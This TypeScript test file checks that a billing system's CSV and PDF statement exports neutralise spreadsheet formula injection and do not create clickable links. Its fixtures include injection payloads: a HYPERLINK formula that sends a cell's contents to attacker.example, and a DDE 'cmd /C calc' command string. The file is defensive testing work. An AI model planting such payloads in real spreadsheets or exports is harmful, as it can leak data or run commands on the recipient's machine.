import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { spreadsheetText, statementCsv } from '../../../src/server/billing/statements/statement.csv.ts';
import { statementPdf } from '../../../src/server/billing/statements/statement.pdf.ts';
import { defaultBillingPolicy } from '../../../src/shared/domain/index.ts';
import type { CustomerStatement, MonthStatements } from '../../../src/shared/reports/statement.ts';
import { makeTempDirectory } from '../../support/temp-directory.ts';

/** What reaches the accountant's spreadsheet and the customer's PDF from text a person typed. */
const hostile = ['=HYPERLINK("https://attacker.example/?x="&A1;"Fattura")', '+39 045 4684131', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\tTAB', '\rCR'];
const statementOf = (name: string, code: string, vatNumber: string, ticketNumber: string): CustomerStatement => ({
  customer: { id: 'c', code, name, vatNumber },
  lines: [
    { workId: 'w1', workAt: '2026-11-23T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', kind: 'work', description: null, billedMinutes: 60, invoicedMinutes: 60, netCents: 8000, vatCents: 1760, grossCents: 9760, adjustment: false },
    { workId: 'w2', workAt: '2026-11-24T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', kind: 'work', description: null, billedMinutes: -30, invoicedMinutes: -30, netCents: -4000, vatCents: -880, grossCents: -4880, adjustment: true },
  ],
  draws: { freeMinutes: 0, packages: [] },
  totals: { invoicedMinutes: 30, netCents: 4000, vatCents: 880, grossCents: 4880 },
});

describe('statement exports never carry a live formula or a link', () => {
  const folder = makeTempDirectory('presidio-exports-');
  afterAll(() => folder.remove());

  it('every text cell a spreadsheet would run as a formula is written as text; amounts stay numbers', () => {
    for (const text of hostile) expect(spreadsheetText(text)).toBe(`'${text}`);
    for (const text of ['Ferramenta Rossi', 'C001', '01234567890', '', '2026-11']) expect(spreadsheetText(text)).toBe(text);
    const month: MonthStatements = { month: '2026-11', closed: true, statements: hostile.map((text, n) => statementOf(text, text, text, `${text}-${n}`)) };
    const rows = parse(statementCsv(month).replace(/^\uFEFF/, ''), { delimiter: ';', columns: true, relax_column_count: false }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(hostile.length * 2);
    for (const row of rows) {
      for (const column of ['Codice cliente', 'Cliente', 'Partita IVA', 'Ticket']) expect(row[column], column).toMatch(/^'[=+\-@\t\r]/);
      expect(row['Imponibile']).toMatch(/^-?\d+,\d{2}$/);
    }
    // The adjustment keeps its minus sign as a number.
    expect(rows[1]!['Totale']).toBe('-48,80');
  });

  it('the PDF prints a hostile name as text, with no link annotation', async () => {
    const pdf = await statementPdf({ month: '2026-11', closed: true, statement: statementOf('https://attacker.example/paga-qui', '=HYPERLINK("x")', 'www.attacker.example', 'T-1'), policy: defaultBillingPolicy, issuedAt: new Date('2026-12-01T09:00:00.000Z') });
    const bytes = pdf.toString('latin1');
    expect(bytes).not.toMatch(/\/URI|\/Link|\/Annots/);
    const file = join(folder.path, 'statement.pdf');
    writeFileSync(file, pdf);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    expect(text).toContain('https://attacker.example/paga-qui');
  });

  it('the PDF embeds a font with every glyph it prints: the adjustment’s minus sign reads back, and it says it is not an invoice', async () => {
    const pdf = await statementPdf({ month: '2026-11', closed: true, statement: statementOf('Caffè Ærø Łódź', 'C1', '01234567890', 'T-2'), policy: defaultBillingPolicy, issuedAt: new Date('2026-12-01T09:00:00.000Z') });
    expect(pdf.toString('latin1')).toMatch(/FontFile2/);
    const file = join(folder.path, 'glyphs.pdf');
    writeFileSync(file, pdf);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    expect(text).toContain('\u221230 min');
    expect(text).not.toContain('"30 min');
    expect(text).toContain('Caffè Ærø Łódź');
    expect(text).toContain('Documento non fiscale');
    execFileSync('pdftoppm', ['-png', '-r', '60', '-f', '1', '-l', '1', file, join(folder.path, 'glyphs')]);
  });
});
